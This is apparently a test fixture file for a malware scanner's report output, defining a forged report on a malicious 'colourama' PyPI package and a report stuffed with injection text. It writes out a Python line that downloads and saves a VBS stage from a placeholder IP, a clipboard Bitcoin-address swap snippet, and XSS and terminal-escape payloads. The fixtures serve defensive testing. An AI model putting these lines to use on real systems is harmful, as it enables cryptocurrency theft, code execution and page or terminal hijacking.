/** Forged reports: what a scan of the colourama replica says, and one full of hostile text. */
import { HOLE } from '../../src/model/source.ts';
import type { Report, ReportFinding } from '../../src/model/report.ts';

const DROPPED = "import urllib.request as u; open('swap.vbs', 'wb').write(u.urlopen('http://203.0.113.9/stage/two.vbs').read())";

/** Every part of a report is used once. */
export const COLOURAMA: Report = {
  target: 'colourama-0.1.6.tar.gz',
  package: { ecosystem: 'pypi', name: 'colourama', version: '0.1.6', purl: 'pkg:pypi/colourama@0.1.6', sha256: 'a0'.repeat(32) },
  verdict: 'malicious',
  score: 97,
  findings: [
    finding('clipboard-address-swap', 'swap', 'critical', 'install', 'Replaces a copied Bitcoin address with another one', ['T1115', 'T1565.002'], [
      { path: 'setup.py', line: 4, column: 1, snippet: 'clip = GetClip() : if Left(clip, 1) = "1" then SetClip "1ExampleExampleExample"', mark: [47, 79], role: 'primary', label: 'written back', layers: ['base64', 'base64'] },
      { path: 'setup.py', line: 4, column: 1, snippet: 'clip = GetClip() : if Left(clip, 1) = "1" then SetClip "1ExampleExampleExample"', mark: [0, 16], role: 'related', label: 'read here', layers: ['base64', 'base64'] },
    ]),
    finding('install-command-override', 'entry', 'medium', 'install', 'The install command is replaced by `PostInstall`', ['T1195.002'], [
      { path: 'setup.py', line: 21, column: 5, snippet: "    cmdclass={'install': PostInstall},", mark: [4, 37], role: 'primary', label: 'runs at install', layers: [] },
      { path: 'setup.py', line: 9, column: 9, snippet: '        exec(base64.b64decode(PAYLOAD))', mark: [8, 39], role: 'related', label: 'decoded and run here', layers: [] },
    ]),
    finding('download-and-run', 'reach', 'high', 'install', `Downloads http://203.0.113.9/stage/${HOLE} and runs it with wscript`, ['T1105', 'T1059.005'], [
      { path: 'setup.py', line: 1, column: 30, snippet: DROPPED, mark: [28, 115], role: 'primary', label: 'downloaded and written', layers: ['base64'] },
    ]),
    finding('host-identity-read', 'look', 'note', 'unreachable', 'Reads the name of the operating system', ['T1082'], [
      { path: 'tests/test_all.py', line: 3, column: 7, snippet: 'print(platform.system())', mark: [6, 23], role: 'primary', layers: [] },
    ]),
  ],
  story: [
    'At install time `setup.py` replaces the install command.',
    'It decodes base64 twice and runs what comes out.',
    'It downloads http://203.0.113.9/stage/two.vbs, writes it to `swap.vbs` and runs it with wscript.',
  ],
  reasons: [
    { points: 60, why: 'fetches and runs a program at install time, concealed by two layers' },
    { points: 37, why: 'replaces copied addresses' },
  ],
  coverage: { files: 31, bytes: 123456, read: 30, unread: [{ path: 'docs/logo.zip', why: 'encrypted' }] },
  seconds: 0.0312,
  registry: { index: 'https://index.example/simple/', facts: [{ kind: 'young-project', detail: 'The project is 2 days old.', weight: 8 }] },
};

export const CLEAN: Report = {
  target: 'plain-1.0-py3-none-any.whl',
  package: { ecosystem: 'pypi', name: 'plain', version: '1.0', purl: 'pkg:pypi/plain@1.0' },
  verdict: 'clean', score: 0, findings: [], story: [], reasons: [],
  coverage: { files: 4, bytes: 900, read: 4, unread: [] }, seconds: 0.01,
};

/** What an attacker would write to take over a terminal, a page, a ticket or a spreadsheet. */
export const HOSTILE_TEXT = '\x1b]0;owned\x07\x1b[2J\u202e\u200b\x9b31m</pre><script>alert(1)</script>"\'`--><img src=x onerror=alert(1)>\n# h1\n```\n[x](javascript:alert(1)) @somebody #12 |\r\ud800';

/** Hostile text at every place where a package's own text can stand. */
export const HOSTILE: Report = {
  target: HOSTILE_TEXT,
  package: { ecosystem: 'pypi', name: HOSTILE_TEXT, version: HOSTILE_TEXT, purl: HOSTILE_TEXT, sha256: HOSTILE_TEXT },
  verdict: 'suspicious', score: 50,
  findings: [
    finding('hostile', 'hide', 'high', 'import', HOSTILE_TEXT, ['T1027'], [
      { path: HOSTILE_TEXT, line: 1, column: 1, snippet: HOSTILE_TEXT, mark: [2, 30], role: 'primary', label: HOSTILE_TEXT, layers: [HOSTILE_TEXT] },
      { path: HOSTILE_TEXT, line: 1, column: 1, snippet: HOSTILE_TEXT, mark: [500, 100], role: 'related', label: HOSTILE_TEXT, layers: [] },
    ]),
  ],
  story: [HOSTILE_TEXT], reasons: [{ points: 50, why: HOSTILE_TEXT }],
  coverage: { files: 2, bytes: 2, read: 1, unread: [{ path: HOSTILE_TEXT, why: HOSTILE_TEXT }] }, seconds: 1,
  registry: { index: HOSTILE_TEXT, facts: [{ kind: 'deprecated', detail: HOSTILE_TEXT, weight: 1 }] },
  original: { target: HOSTILE_TEXT, same: 1, added: [{ path: HOSTILE_TEXT, stage: 'install', lines: [{ line: 3, text: HOSTILE_TEXT }] }, { path: HOSTILE_TEXT, stage: 'run', lines: [], note: HOSTILE_TEXT }] },
};

function finding(
  rule: string, family: ReportFinding['family'], severity: ReportFinding['severity'], stage: ReportFinding['stage'], message: string,
  attack: readonly string[], locations: ReportFinding['locations'],
): ReportFinding {
  return { rule, family, severity, confidence: 'high', stage, message, locations, attack };
}
